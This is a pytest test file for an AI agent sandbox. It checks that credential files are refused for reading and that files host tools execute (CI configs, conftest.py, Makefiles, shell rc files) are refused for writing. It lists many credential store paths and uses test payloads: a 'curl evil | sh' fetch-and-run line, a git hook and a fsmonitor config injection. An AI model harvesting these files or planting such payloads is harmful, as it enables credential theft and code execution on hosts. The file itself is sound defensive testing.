"""The ready-made deny sets: credential files refused by default, host-executed files read-only.

Each well-known credential file is refused by the default policy, by its own path and through a
symlink inside the root; each file host tools execute is refused for writing (and stays readable)
with ``write_deny_patterns=HOST_EXECUTED_PATTERNS``. Bare git repositories are recognised by
their layout, whatever their name.
"""

from __future__ import annotations

import subprocess  # nosec B404 - git init with fixed arguments
from pathlib import Path

import pytest

from ai_sandbox.exceptions import SecurityError
from ai_sandbox.pathlayer.names import compile_deny_patterns, denied_by
from ai_sandbox.policy import DEFAULT_DENY_PATTERNS, HOST_EXECUTED_PATTERNS, SandboxPolicy
from ai_sandbox.security import SafeFS, safe_path_access

#: Credential files (relative to the root) the default policy must refuse.
CREDENTIAL_FILES = [
    ".git/config",
    "mirror.git/config",
    ".env",
    ".env.production",
    ".envrc",
    "certs/server.pem",
    "certs/server.key",
    ".ssh/authorized_keys",
    "home/.ssh/config",
    "keys/id_rsa",
    "keys/id_dsa",
    "keys/id_ecdsa",
    "keys/id_ed25519",
    "keys/id_ecdsa_sk",
    "keys/id_ed25519_sk",
    "keys/deploy.ppk",
    "certs/client.p12",
    "certs/client.P12",
    "certs/client.pfx",
    "android/release.keystore",
    "java/truststore.jks",
    "vault/passwords.kdbx",
    "home/.gnupg/private-keys-v1.d/key.key",
    "home/.gnupg/pubring.kbx",
    ".git-credentials",
    "home/.netrc",
    "_netrc",
    ".npmrc",
    "home/.pypirc",
    "home/.pgpass",
    "home/.my.cnf",
    "site/.htpasswd",
    "home/.cargo/credentials.toml",
    "home/.cargo/credentials",
    "home/.gem/credentials",
    "home/.composer/auth.json",
    "home/.config/gh/hosts.yml",
    "home/.aws/credentials",
    "home/.aws/config",
    ".azure/msal_token_cache.json",
    "home/.config/gcloud/application_default_credentials.json",
    "credentials.json",
    "client_secret_1234.apps.googleusercontent.com.json",
    "service-account-prod.json",
    "serviceAccountKey.json",
    "home/.boto",
    "home/.s3cfg",
    "home/.docker/config.json",
    ".dockercfg",
    "home/.kube/config",
    "kubeconfig",
    "prod.kubeconfig",
    "home/.vault-token",
    "infra/terraform.tfstate",
    "infra/terraform.tfstate.backup",
    "home/.terraformrc",
    "terraform.rc",
    "home/.terraform.d/credentials.tfrc.json",
    # found by the red team: well-known stores the first list missed
    "home/.config/git/credentials",
    "etc/http.keytab",
    "tmp/krb5cc_1000",
    "keys/AuthKey_ABC123.p8",
    "home/.m2/settings.xml",
    "home/.m2/settings-security.xml",
    "home/.gradle/gradle.properties",
    "home/.cache/huggingface/token",
    "home/.huggingface/token",
    "home/.config/rclone/rclone.conf",
    "home/.passwd-s3fs",
    "home/.oci/config",
    "home/.databrickscfg",
    "home/.mylogin.cnf",
    "app/.streamlit/secrets.toml",
    "home/.password-store/email.gpg",
    "home/.sbt/.credentials",
    "home/.ivy2/.credentials",
    "home/.config/hub",
    "home/.bash_history",
    "home/.zsh_history",
    "home/.python_history",
    "home/.psql_history",
    "home/.mysql_history",
    "home/.node_repl_history",
    "home/.zhistory",
    "home/.histfile",
]

#: Look-alikes that stay readable (public keys, a project's own docker or kube folders).
READABLE_FILES = [
    "keys/id_rsa.pub",
    "keys/id_ed25519.pub",
    ".docker/php/Dockerfile",
    "deploy/.kube-notes.md",
    "config/settings.yaml",
    "app/config",
    "aws/credentials_guide.md",
    "data/order_history.csv",
    "docs/history.md",
    "src/token.py",
]

#: Files that host tools run or import later.
HOST_EXECUTED_FILES = [
    "conftest.py",
    "tests/conftest.py",
    "site-packages/evil.pth",
    "sitecustomize.py",
    "usercustomize.py",
    "setup.py",
    "setup.cfg",
    "pyproject.toml",
    "noxfile.py",
    "tox.ini",
    "pytest.ini",
    "manage.py",
    ".github/workflows/ci.yml",
    ".gitlab-ci.yml",
    ".gitlab/ci/build.yml",
    ".circleci/config.yml",
    ".travis.yml",
    "azure-pipelines.yml",
    "Jenkinsfile",
    ".buildkite/pipeline.yml",
    ".pre-commit-config.yaml",
    ".pre-commit-hooks.yaml",
    ".husky/pre-commit",
    ".githooks/pre-push",
    "Makefile",
    "makefile",
    "GNUmakefile",
    "rules.mk",
    "justfile",
    "Taskfile.yml",
    "CMakeLists.txt",
    "build.gradle.kts",
    "settings.gradle",
    "pom.xml",
    "build.rs",
    "Rakefile",
    "Gemfile",
    "web/package.json",
    ".yarnrc.yml",
    "Dockerfile",
    "docker-compose.override.yml",
    "compose.yaml",
    ".vscode/tasks.json",
    ".idea/workspace.xml",
    ".envrc",
    ".bashrc",
    ".profile",
    ".zshrc",
    # found by the red team: more files host tools run
    ".gitconfig",
    "home/.config/git/config",
    ".pdbrc",
    ".pylintrc",
    "pylintrc",
    ".cargo/config.toml",
    "home/.cargo/config",
    "Cargo.toml",
    ".bazelrc",
    "mise.toml",
    ".mise.toml",
    "home/.config/mise/config.toml",
    ".exrc",
    ".nvim.lua",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".zshenv",
    ".zprofile",
    ".zlogin",
    "home/.config/fish/config.fish",
    ".devcontainer/devcontainer.json",
    "home/.ipython/profile_default/startup/00.py",
    "home/.jupyter/jupyter_server_config.py",
    "bitbucket-pipelines.yml",
    ".drone.yml",
    "appveyor.yml",
    ".appveyor.yml",
    ".woodpecker.yml",
    ".woodpecker/build.yml",
    "Vagrantfile",
    "Directory.Build.props",
    "Directory.Build.targets",
]


def _make(root: Path, rel: str, content: str = "SECRET") -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(content, encoding="utf-8")
    return path


@pytest.mark.parametrize("rel", CREDENTIAL_FILES)
def test_credential_files_are_refused_by_default(tmp_path: Path, rel: str) -> None:
    """It refuses each well-known credential file, by its path and through a symlink."""
    _make(tmp_path, rel)
    (tmp_path / "alias").symlink_to(rel)
    with SafeFS(tmp_path, SandboxPolicy()) as fs:
        for path in (rel, "alias"):
            with pytest.raises(SecurityError) as info:
                fs.read_bytes(path)
            assert info.value.rule == "deny_pattern"
            assert "SECRET" not in str(info.value)
    with pytest.raises(SecurityError):
        safe_path_access(rel, tmp_path)


@pytest.mark.parametrize("rel", READABLE_FILES)
def test_look_alikes_stay_readable(tmp_path: Path, rel: str) -> None:
    """It still reads public keys and ordinary project files with similar names."""
    _make(tmp_path, rel, "ok")
    with SafeFS(tmp_path, SandboxPolicy()) as fs:
        assert fs.read_text(rel) == "ok"


def test_every_default_pattern_is_exercised() -> None:
    """It keeps the test table in step with the list: each default pattern refuses a file."""
    for pattern in DEFAULT_DENY_PATTERNS:
        compiled = compile_deny_patterns([pattern])
        assert any(
            denied_by(rel.split("/"), compiled) for rel in CREDENTIAL_FILES
        ), f"no test file for {pattern!r}"
    for pattern in HOST_EXECUTED_PATTERNS:
        compiled = compile_deny_patterns([pattern])
        assert any(
            denied_by(rel.split("/"), compiled) for rel in HOST_EXECUTED_FILES
        ), f"no test file for {pattern!r}"


@pytest.mark.parametrize("rel", HOST_EXECUTED_FILES)
def test_host_executed_files_are_read_only_with_the_write_deny_set(
    tmp_path: Path, rel: str
) -> None:
    """It refuses writing each file host tools execute, and still lets the agent read it."""
    _make(tmp_path, rel, "original")
    policy = SandboxPolicy(
        allow_writes=True, write_deny_patterns=HOST_EXECUTED_PATTERNS, deny_patterns=()
    )
    with SafeFS(tmp_path, policy) as fs:
        with pytest.raises(SecurityError) as info:
            fs.write_text(rel, "import os; os.system('curl evil | sh')")
        assert info.value.rule == "write_deny_pattern"
        assert fs.read_text(rel) == "original"
    assert (tmp_path / rel).read_text(encoding="utf-8") == "original"


@pytest.mark.parametrize("rel", ["conftest.py", ".github/workflows/ci.yml", "Makefile"])
def test_host_executed_files_are_refused_through_a_link_or_dotdot(tmp_path: Path, rel: str) -> None:
    """It refuses a write that reaches a host-executed file through a directory link or '..'."""
    _make(tmp_path, rel, "original")
    (tmp_path / "sub").mkdir()
    (tmp_path / "dirlink").symlink_to(".")
    policy = SandboxPolicy(allow_writes=True, write_deny_patterns=HOST_EXECUTED_PATTERNS)
    with SafeFS(tmp_path, policy) as fs:
        for path in (f"dirlink/{rel}", f"sub/../{rel}"):
            with pytest.raises(SecurityError) as info:
                fs.write_text(path, "x")
            assert info.value.rule == "write_deny_pattern"
    assert (tmp_path / rel).read_text(encoding="utf-8") == "original"


def test_host_executed_files_can_be_hidden_altogether(tmp_path: Path) -> None:
    """It refuses reading them too when they are added to deny_patterns."""
    _make(tmp_path, "conftest.py", "x")
    policy = SandboxPolicy(deny_patterns=DEFAULT_DENY_PATTERNS + HOST_EXECUTED_PATTERNS)
    with SafeFS(tmp_path, policy) as fs, pytest.raises(SecurityError) as info:
        fs.read_text("conftest.py")
    assert info.value.rule == "deny_pattern"


def test_write_deny_patterns_are_empty_by_default() -> None:
    """It leaves write_deny_patterns empty by default (writes are off by default anyway)."""
    assert SandboxPolicy().write_deny_patterns == ()


@pytest.fixture
def bare_repo(tmp_path: Path) -> Path:
    """A bare git repository named like an ordinary directory ('backup')."""
    repo = tmp_path / "backup"
    done = subprocess.run(  # nosec B603 B607
        ["git", "init", "--bare", "-q", str(repo)], capture_output=True, check=False
    )
    if done.returncode != 0:
        pytest.skip("git init --bare failed (git missing?)")
    (repo / "config").write_text(
        "[remote]\n\turl = https://user:TOKEN@example.com/r.git\n", encoding="utf-8"
    )
    return repo


@pytest.mark.parametrize("use_openat2", [True, False], ids=["default", "walk"])
def test_a_bare_repositorys_config_and_hooks_are_refused(
    tmp_path: Path, bare_repo: Path, use_openat2: bool
) -> None:
    """It refuses a bare repository's config and hooks whatever the repository is called."""
    policy = SandboxPolicy(allow_writes=True)
    with SafeFS(tmp_path, policy, _use_openat2=None if use_openat2 else False) as fs:
        for call in (
            lambda: fs.read_text("backup/config"),
            lambda: fs.read_text("backup/hooks/pre-receive.sample"),
            lambda: fs.list_dir("backup/hooks"),
            lambda: fs.write_text("backup/hooks/post-receive", "#!/bin/sh\nid\n"),
            lambda: fs.write_text("backup/config", "[core]\n\tfsmonitor = id\n"),
            lambda: fs.resolve("backup/CONFIG"),
        ):
            with pytest.raises(SecurityError) as info:
                call()
            assert info.value.rule == "deny_pattern"
        assert fs.read_text("backup/HEAD").startswith("ref:")
    assert not (bare_repo / "hooks" / "post-receive").exists()
    assert "TOKEN" in (bare_repo / "config").read_text(encoding="utf-8")


def test_a_config_file_outside_a_repository_is_readable(tmp_path: Path) -> None:
    """It reads a plain 'config' file or directory that is not part of a bare repository."""
    _make(tmp_path, "app/config", "plain")
    _make(tmp_path, "config/hooks/x.txt", "plain")
    with SafeFS(tmp_path, SandboxPolicy()) as fs:
        assert fs.read_text("app/config") == "plain"
        assert fs.read_text("config/hooks/x.txt") == "plain"
